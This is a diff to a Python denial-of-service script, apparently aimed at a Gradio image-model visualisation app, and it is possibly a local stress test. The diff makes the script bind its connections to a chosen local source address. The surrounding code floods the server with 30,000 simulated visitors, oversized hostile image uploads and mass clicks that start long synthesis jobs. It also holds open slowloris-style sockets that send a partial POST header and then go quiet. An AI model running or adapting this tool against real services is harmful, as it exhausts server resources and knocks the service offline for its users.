@@ -24,6 +24,7 @@ from .client import Visitor, file_object
 __all__ = ["NUMBER", "main"]
 
 NUMBER = 30_000  # of the visitor that it is
+SOURCE = "127.0.3.1" if sys.platform == "linux" else None  # where it connects from
 MODEL = "bundled:scenes-resnet"
 PAUSE = 0.05  # seconds between two of a kind: it is refused far more often than it is heard
 SILENT = 200  # connections that say nothing more
@@ -40,7 +41,7 @@ def main(url: str) -> None:
 async def _attack(url: str) -> None:
     async with httpx.AsyncClient(base_url=url, timeout=30) as http:
         config = (await http.get("/config")).json()
-    visitor = Visitor(url, NUMBER, config, patience=60)
+    visitor = Visitor(url, NUMBER, config, 60, SOURCE)
     pictures = [
         hostile_pictures.many_scans(400), hostile_pictures.many_frames(2000),
         hostile_pictures.profile(100), hostile_pictures.noise(1, 4_800_000),
@@ -75,7 +76,7 @@ async def _upload(visitor: Visitor, data: bytes) -> None:
 
 async def _page(visitor: Visitor) -> None:
     """A page whose own long work runs, and whose buttons are clicked all the same."""
-    page = Visitor(visitor.server, NUMBER, visitor.config, patience=60)
+    page = Visitor(visitor.server, NUMBER, visitor.config, 60, SOURCE)
     query = f"tab=Synthesis&m={MODEL}&layer=layer4&ch={random.randrange(400)}&p.steps=400"
     load, button = page.event("load", "load"), page.event("fv-next", "click")
     clicks = [page.send(button, []) for _ in range(AT_ONCE)]
@@ -96,7 +97,9 @@ async def _silent(url: str) -> None:
         sockets = [one for one in sockets if one.fileno() >= 0 and _is_open(one)]
         for _ in range(SILENT - len(sockets)):
             with suppress(OSError):
-                one = socket.create_connection((address.hostname, address.port), timeout=5)
+                one = socket.create_connection(
+                    (address.hostname, address.port), 5, (SOURCE, 0) if SOURCE else None
+                )
                 one.sendall(b"POST /gradio_api/upload HTTP/1.1\r\nHost: a\r\nX: ")
                 one.setblocking(False)
                 sockets.append(one)
